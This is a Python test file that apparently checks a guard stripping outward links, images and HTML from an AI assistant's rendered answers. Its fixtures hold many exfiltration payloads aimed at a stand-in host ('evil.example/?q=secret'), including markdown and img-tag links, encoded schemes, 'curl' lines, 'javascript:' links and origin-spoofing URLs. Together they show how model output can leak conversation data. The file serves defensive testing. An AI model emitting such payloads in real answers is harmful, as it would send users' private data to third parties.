"""No link, image or HTML of an answer leads where conversation data must not go, whatever the model writes."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from orchestrator.response.addresses import TRAILING, Addresses, origin_of
from orchestrator.response.code_blocks import MAX_HELD
from orchestrator.response.links import LinkGuard, guarded
from tests.rounds import rounds

GIVEN = "https://given.example/a?x=1"
PICTURE = "https://own.example/p.png"
OWN = "https://own.example/"
EVIL = "https://evil.example/?q=secret"

ADDRESSES = Addresses(
    texts=lambda: (
        f'{{"url":"{GIVEN}","image":"{PICTURE}"}}',
        "see https://other.example/pic.png",
        "bob@given.example",
    ),
    origins=frozenset({"https://own.example:443"}),
    composable=frozenset({"https://own.example:443"}),
)

_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_BARE = re.compile(r"(?:https?://|ftp://|www\.)[^ \t\n<]*", re.IGNORECASE)


def shown(text: str) -> str:
    return guarded(text, lambda: ADDRESSES)


def _flat(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _flat(token.children or ())


def followed(markdown: str) -> Iterator[tuple[str, str]]:
    """What a renderer that reads CommonMark, tables, HTML and bare addresses makes of a text."""
    depth = 0
    for token in _flat(_PARSER.parse(markdown)):
        depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
        if token.type == "link_open":
            yield "link", str(token.attrs["href"])
        elif token.type == "image":
            yield "image", str(token.attrs["src"])
        elif token.type in ("html_inline", "html_block"):
            yield "html", token.content
        elif token.type in ("text", "text_special") and not depth:
            yield from (("bare", one[0]) for one in _BARE.finditer(token.content))


def is_harmless(kind: str, target: str) -> bool:
    if kind == "html":
        return re.fullmatch(r"<br ?/?>", target, re.IGNORECASE) is not None
    if kind == "image":
        return target == PICTURE
    if target == "mailto:bob@given.example":
        return True
    relative = re.match(r"[A-Za-z][A-Za-z0-9+.-]*:|[/\\]", target) is None and kind == "link"
    bare = target.rstrip(f"{TRAILING}`/")
    return relative or ADDRESSES.may_link(target) or bare.lower() in ("", "https", "http", "www", "ftp", GIVEN)


PIECES = [
    *(
        GIVEN,
        PICTURE,
        OWN,
        EVIL,
        "https://",
        "http://e.example/",
        "www.evil.example/x",
        "ftp://e.example/",
        "//e.example",
    ),
    *("[", "]", "(", ")", "![", "](", "]:", "][", "<", ">", "!", ":", "|", "\\", "`", "``", "```", "~~~", "~"),
    *(
        "\n",
        "\n\n",
        " ",
        "  ",
        "    ",
        "\t",
        "- ",
        "> ",
        "1. ",
        "# ",
        "|-|-|\n",
        "| a | b |\n",
        "a",
        "b",
        "[a]",
        "[a]: ",
    ),
    *("<br>", "<br/>", "<b>", "<img src=", "<a href='", "<!--", "-->", "</a>", "<script>", "javascript:x", "data:,x"),
    *("\n   ```\n", "\n  ```\n", "```svg\n", "1. a\n   ", "- a\n  ", "bob@given.example", "@", "\\."),
    *("&#58;", "&colon;", "&lt;", "%3A", "*", "_", '"', "'", "/", "é", "\u3000", "\u3001", "mailto:a@e.example"),
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)


@settings(max_examples=rounds(3), deadline=None)
@given(text=TEXTS)
@example(text=f"- ```\n  ```\n  [x]({EVIL})")
@example(text=f"  ```\n```\n[x]({EVIL})")
@example(text=f"a `b\nc [x]({EVIL}) `d")
@example(text=f"| a | b |\n|-|-|\n| ` | [x]({EVIL}) ` |")
@example(text=f"[`a]: {EVIL}`\n\n[`a]")
@example(text=f"a `b\n\n{EVIL}` c `")
@example(text=f"<b>\n```\n<img src={EVIL}>\n```")
@example(text=f"!![x]({EVIL})")
@example(text=f"![{EVIL}]({PICTURE} z)")
@example(text=f"[a]:\n{EVIL}\n\n[a]")
@example(text=f"{GIVEN}\u3001secret")
@example(text=f"{GIVEN}](secret")
@example(text=f"{GIVEN}`secret`")
@example(text=f"a \\{EVIL} b")
@example(text=f"`a`{EVIL}`")
@example(text=f"{GIVEN}{GIVEN}{EVIL}`")
@example(text=f"![{GIVEN}]{GIVEN}")
@example(text=f"{PICTURE}&#58;{EVIL}")
@example(text=f"{OWN}*{EVIL}*")
@example(text=f"[{GIVEN}](secret x)")
@example(text=f"[a [b](c) {GIVEN}](secret)")
@example(text=f"[ [b](c) \\[{GIVEN}](secret)")
@example(text=f"~~~\n```\n~~~\n[x]({EVIL})")
@example(text=f'[a](b "`") ![x]({EVIL}) `c`')
@example(text=f"[a](b '`') ![x]({EVIL}) `c`")
@example(text=f"[a](b (`)) ![x]({EVIL}) `c`")
@example(text=f'[a](b\n"t`t") [x]({EVIL}) `d')
@example(text=f"[a](`)![x]({EVIL})`")
@example(text=f"[a]([`)![x]({EVIL})`")
@example(text=f"[a](<b`>) ![x]({EVIL}) `c`")
@example(text=f"```|a|b|\n|-|-|\n|![x]({EVIL})|c|\n")
@example(text=f"1. a\n   ```\nb\n   ```\n[x]({EVIL})")
@example(text=f"- ```\n  ```\n\n  [x]({EVIL})")
@example(text="a `b https:\\//evil.example/?q=s")
@example(text="h&#116;tps://evil.example/?q=s")
@example(text="http&#58;//evil.example/?q=s")
@example(text="https&colon;//evil.example/?q=s")
@example(text="`` `a http://www.evil.example")
@example(text="www\\.evil.example/?q=s")
def test_nothing_leads_away_whatever_is_written(text: str) -> None:
    for kind, target in followed(shown(text)):
        assert is_harmless(kind, target), (kind, target, shown(text))


@settings(max_examples=rounds(2), deadline=None)
@given(text=TEXTS, data=st.data())
def test_a_stream_is_guarded_alike_wherever_it_is_split(text: str, data: st.DataObject) -> None:
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    guard = LinkGuard(lambda: ADDRESSES)
    pieces = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
    assert "".join([*map(guard.feed, pieces), guard.finish()]) == shown(text)


@settings(max_examples=rounds(1), deadline=None)
@given(text=TEXTS)
def test_a_stream_of_single_characters_is_guarded_alike(text: str) -> None:
    guard = LinkGuard(lambda: ADDRESSES)
    assert "".join([*map(guard.feed, text), guard.finish()]) == shown(text)


@given(text=TEXTS)
def test_the_words_of_a_text_stay(text: str) -> None:
    """Only signs of mark-up are added or lost, and a picture is called one, a drawing text."""

    def words(markdown: str) -> str:
        return re.sub(r"[^A-Za-z0-9é]", "", markdown.replace("image: [", "[").replace("```svg", "```text"))

    assert words(shown(text)) == words(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain words, a < b, x <= 3 and a list [1]\n- one\n", "plain words, a < b, x <= 3 and a list [1]\n- one\n"),
        (f"see [this]({GIVEN}) and {GIVEN}.", f"see [this]({GIVEN}) and {GIVEN}."),
        (f"see <{GIVEN}>", f"see <{GIVEN}>"),
        (f"[order 7]({OWN}orders/7)", f"[order 7]({OWN}orders/7)"),
        (f"see [this]({EVIL}).", f"see [this] (`{EVIL}`)."),
        (f"see {EVIL}, please", f"see `{EVIL}`, please"),
        (f"see <{EVIL}>", f"see `{EVIL}`"),
        (f"![chart]({PICTURE})", f"![chart]({PICTURE})"),
        (f"![chart]({GIVEN})", f"image: [chart]({GIVEN})"),
        (f"![chart]({EVIL})", f"image: [chart] (`{EVIL}`)"),
        (f"![chart]({OWN}made-up?q=secret)", f"image: [chart]({OWN}made-up?q=secret)"),
        (f'<img src="{EVIL}">', f'\\<img src="`{EVIL}`">'),
        ("a<br>b", "a<br>b"),
        ("a List<String> b", "a List\\<String> b"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[x](//evil.example/q)", "[x] (`//evil.example/q`)"),
        ("[x](#part) and [note]: words", "[x](#part) and [note]: words"),
        (f"[1]: {GIVEN}", f"[1]: {GIVEN}"),
        (f"[1]: {EVIL}", f"[1] : `{EVIL}`"),
        (f"`curl {EVIL}`", f"`curl {EVIL}`"),
        (f"```sh\ncurl {EVIL} <x>\n```\n{EVIL} end", f"```sh\ncurl {EVIL} <x>\n```\n`{EVIL}` end"),
        (f"a ` b {EVIL} c", "a ` b https:/ /evil.example/?q=secret c"),
        ("www.evil.example/x", "`www.evil.example/x`"),
        (f"[{GIVEN}]({GIVEN})", f"[{GIVEN}]({GIVEN})"),
        (f"{GIVEN}\u3001and", f"<{GIVEN}>\u3001and"),
        ("Yes! Watch", "Yes! Watch"),
        ("https&colon;//e.example &amp; &eacute; &#x202e;", "https\\&colon;`//e.example` &amp; &eacute; \\&#x202e;"),
        (f"[a]({GIVEN}.,;*_~)", f"[a] (<{GIVEN}>.,;*_~)"),
        (f"![a]({PICTURE}/)", f"![a]({PICTURE}/)"),
        (f"![a]({PICTURE}//)", f"image: [a]({PICTURE}//)"),
        (f"**{GIVEN}**", f"**<{GIVEN}>**"),
        (f'[a]({GIVEN} "title") and [a]({GIVEN}\n)', f'[a]({GIVEN} "title") and [a]({GIVEN}\n)'),
        (f"1. Do:\n   ```sh\n   curl {EVIL}\n   ```\n2. next", f"1. Do:\n   ```sh\n   curl {EVIL}\n   ```\n2. next"),
        (f"So:\n\n    curl <a> {EVIL}\n", f"So:\n\n    curl <a> {EVIL}\n"),
        (f"- So:\n\n    curl {EVIL}\n", f"- So:\n\n    curl `{EVIL}`\n"),
        ("| a |\n|-|\n| <br> |", "| a |\n|-|\n| <br> |"),
        ("\\(a<b\\) and a<b>c", "\\(a<b\\) and a\\<b>c"),
        (f'```mermaid\nclick A "{EVIL}"\n```\n', f'```text\nclick A "{EVIL}"\n```\n'),
        (f'```mermaid\nclick A "{GIVEN}"\n```\n', f'```mermaid\nclick A "{GIVEN}"\n```\n'),
        (f"```python\nget('{EVIL}')\n```\n", f"```python\nget('{EVIL}')\n```\n"),
        ("ask bob@given.example, <bob@given.example>", "ask bob@given.example, <bob@given.example>"),
        ("[Bob](mailto:bob@given.example)", "[Bob](mailto:bob@given.example)"),
        ("[Bob](mailto:bob@given.example?body=s)", "[Bob] (mailto:bob@given.example?body=s)"),
        ("ask secret@evil.example.", "ask secret@`evil.example`."),
        ("ask secret@given.example.", "ask secret@`given.example`."),
        ("s@`evil.example", "s@ `evil.example"),
        ("bob@given.example|x", "bob@`given.example`|x"),
        ("mailto:s@evil.example xmpp:bob@given.example", "mailto:s@`evil.example` xmpp:bob@`given.example`"),
        ("see @bob, a@b and x // y", "see @bob, a@b and x // y"),
    ],
)
def test_what_becomes_of_a_text(text: str, expected: str) -> None:
    assert shown(text) == expected


def test_a_text_that_decides_nothing_does_not_wait_for_its_end() -> None:
    guard = LinkGuard(lambda: ADDRESSES)
    assert [guard.feed(piece) for piece in ("I", " am", ".\n\n", "A", " b")] == ["I", " am", ".\n\n", "A", " b"]
    guard = LinkGuard(lambda: ADDRESSES)
    assert guard.feed("[" * 10) == "[" * 10
    assert guard.feed("word " * 10_000) == "word " * 10_000


@pytest.mark.parametrize("endless", ["`", "~", " ", "<a:", "](", "![", "https://", "> ", "[a]:", "(", "`a", "www."])
def test_no_more_is_held_back_than_the_limit(endless: str) -> None:
    guard = LinkGuard(lambda: ADDRESSES)
    text = endless * (3 * MAX_HELD)
    given_out = 0
    for at in range(0, len(text), 512):
        given_out += len(guard.feed(text[at : at + 512]))
        assert at + 512 - given_out <= MAX_HELD + 512


def test_addresses_are_looked_through_only_when_there_is_one_to_judge() -> None:
    def never() -> Addresses:
        raise NotImplementedError

    assert guarded("words, `code`, a < b\n```\nhttps://x.example\n```\n", never).startswith("words")


@pytest.mark.parametrize(
    ("url", "origin"),
    [
        ("https://API.example/x", "https://api.example:443"),
        ("http://127.0.0.1:8080", "http://127.0.0.1:8080"),
        ("https://own.example@evil.example/", None),
        ("https://own.example\\@evil.example/", None),
        ("https://own.example%2eevil.example/", None),
        ("//own.example/", None),
        ("javascript:1", None),
    ],
)
def test_an_origin_is_read_only_where_every_reader_agrees(url: str, origin: str | None) -> None:
    assert origin_of(url) == origin
